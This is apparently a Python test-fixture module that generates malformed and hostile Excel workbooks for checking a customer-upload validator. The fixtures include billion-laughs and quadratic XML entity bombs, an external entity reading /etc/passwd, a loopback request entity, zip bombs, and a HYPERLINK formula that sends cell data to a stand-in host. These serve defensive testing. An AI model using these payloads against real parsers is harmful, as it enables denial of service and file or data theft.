"""Workbooks that nobody should send: by name, what makes their bytes."""

import io
import random
import zipfile
from collections.abc import Callable

import openpyxl

from tests import customer

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
#: A name of XML begins with none of the digits.
LETTERS = str.maketrans("0123456789", "ghijklmnop")
SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"


def changed(parts: dict[str, str | bytes], content: bytes | None = None) -> bytes:
    """The customer's workbook with parts of its archive replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content or customer.book())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in old.namelist():
            if name not in parts:
                made.writestr(name, old.read(name))
        for name, text in parts.items():
            made.writestr(name, text)
    return out.getvalue()


def sheet(inside: str, head: str = "") -> bytes:
    return changed({SHEET: f"{head}<worksheet {MAIN}>{inside}</worksheet>"})


def data(rows: str) -> bytes:
    return sheet(f"<sheetData>{rows}</sheetData>")


def words(count: int, length: int = 12) -> list[str]:
    """Text that does not shrink much."""
    text = random.Random(7).randbytes(count * length // 2 + length).hex().translate(LETTERS)
    return [text[n * length : (n + 1) * length] for n in range(count)]


def shared_strings() -> bytes:
    texts = "".join(f"<si><t>{w}</t></si>" for w in words(400_000))
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    types = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    with zipfile.ZipFile(io.BytesIO(customer.book())) as old:
        kinds = old.read("[Content_Types].xml").decode()
    if "sharedStrings" not in kinds:
        kinds = kinds.replace("</Types>", types)
    return changed(
        {
            "xl/sharedStrings.xml": f"<sst {MAIN}>{texts}</sst>",
            SHEET: f"<worksheet {MAIN}><sheetData>{cells}</sheetData></worksheet>",
            "[Content_Types].xml": kinds,
        }
    )


def deep() -> bytes:
    tags = words(250_000, 5)
    return sheet("".join(f"<{t}>" for t in tags) + "".join(f"</{t}>" for t in reversed(tags)))


LAUGHS = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
BILLION = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e0 "x">{LAUGHS}]>'


def entities() -> bytes:
    return sheet('<sheetData><row r="1"><c r="A1" t="str"><v>&e9;</v></c></row></sheetData>', BILLION)


def outside(url: str) -> Callable[[], bytes]:
    dtd = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "{url}">]>'
    return lambda: sheet('<sheetData><row r="1"><c r="A1" t="str"><v>&x;</v></c></row></sheetData>', dtd)


def quadratic() -> bytes:
    dtd = f'<!DOCTYPE worksheet [<!ENTITY x "{"".join(words(5000))}">]>'
    return sheet(f"<sheetData><row><c><v>{'&x;' * 50_000}</v></c></row></sheetData>", dtd)


def styles() -> bytes:
    fonts = "".join(f'<font><name val="{w}"/></font>' for w in words(150_000, 8))
    return changed({"xl/styles.xml": f"<styleSheet {MAIN}><fonts>{fonts}</fonts></styleSheet>"})


def names() -> bytes:
    defined = "".join(f'<definedName name="{w}">Sheet!$A$1</definedName>' for w in words(150_000, 9))
    with zipfile.ZipFile(io.BytesIO(customer.book())) as old:
        book = old.read(BOOK).decode()
    return changed({BOOK: book.replace("</sheets>", f"</sheets><definedNames>{defined}</definedNames>")})


def merged() -> bytes:
    cells = "".join(f'<mergeCell ref="A{n}:B{n + 1}"/>' for n in range(1, 500_000, 2))
    return sheet(f"<sheetData/><mergeCells>{cells}</mergeCells>")


def whole_sheet_merged() -> bytes:
    def dress(made, first):
        for row in range(first, first + 60):
            made.merged_cells.add(f"F{row}:XFD1048576")  # merge_cells would make every cell of it

    return customer.book(dress=dress)


def validations() -> bytes:
    rules = "".join(
        f'<dataValidation sqref="A{n}"><formula1>{w}</formula1></dataValidation>'
        for n, w in enumerate(words(200_000, 6), 1)
    )
    return sheet(f"<sheetData/><dataValidations>{rules}</dataValidations>")


def one_long_text() -> bytes:
    return data(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"".join(words(1_000_000))}</t></is></c></row>')


def formula() -> bytes:
    made = openpyxl.load_workbook(io.BytesIO(customer.book()))
    made.active["L9"] = '=HYPERLINK("http://x/?"&A1)'
    return customer.saved(made)


def encrypted() -> bytes:
    content = bytearray(customer.book())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(sign) + at] |= 1
    return bytes(content)


def nested() -> bytes:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("x", bytes(90 * 2**20))
    return changed({"xl/media/more.zip": bomb.getvalue(), SHEET: f"<worksheet {MAIN}/>"})


def empty_cells() -> bytes:
    return data("".join(f'<row r="{r}">{EMPTY}</row>' for r in range(1, 5001)))


EMPTY = "".join(f'<c s="{n % 7}"/>' for n in range(200))
FILES: dict[str, Callable[[], bytes]] = {
    "no bytes": lambda: b"",
    "xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000),
    "csv": lambda: "No.,大項目\n1,運用\n".encode("cp932"),
    "pdf": lambda: b"%PDF-1.7\n" + bytes(999),
    "html": lambda: b"<html><table><tr><td>No.</td></tr></table></html>",
    "another zip": lambda: changed({"[Content_Types].xml": "x"}),
    "21 MB": lambda: b"PK\x03\x04" + bytes(21 * 2**20),
    "encrypted": encrypted,
    "macros": lambda: changed({"xl/vbaProject.bin": b"x"}),
    "external links": lambda: changed({"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "a formula": formula,
    "a bomb": lambda: changed({"xl/media/x.png": bytes(95 * 2**20)}),
    "a bomb of many": lambda: changed({f"xl/x{n}": bytes(900_000) for n in range(150)}),
    "a bomb in a zip": nested,
    "100,000 rows": lambda: data(
        "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 100_001))
    ),
    "a million empty rows": lambda: data(
        "".join(f'<row r="{n}" ht="{n % 409}"/>' for n in range(1, 1_000_001))
    ),
    "a million empty cells": empty_cells,
    "16,384 columns": lambda: data(f"<row>{'<c><v>1</v></c>' * 16_384}</row>"),
    "a cell far away": lambda: data('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a cell nowhere": lambda: data('<row r="-5"><c r="ZZZZZ99999999999"><v>1</v></c></row>'),
    "shared strings": shared_strings,
    "deep elements": deep,
    "entities": entities,
    "a file of ours": outside("file:///etc/passwd"),
    "a page of theirs": outside("http://127.0.0.1:9/x"),
    "one long entity": quadratic,
    "fonts": styles,
    "names": names,
    "merged cells": merged,
    "rules": validations,
    "one long text": one_long_text,
    "a day that is none": lambda: data('<row r="1"><c r="A1" t="d"><v>2026-13-45</v></c></row>'),
    "a number that is none": lambda: data(f'<row r="1"><c r="A1"><v>{"9" * 100_000}</v></c></row>'),
    "cut in the middle": lambda: customer.book()[:3000],
    "a control character": lambda: data(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>_x0000_</t></is></c></row>'
    ),
}
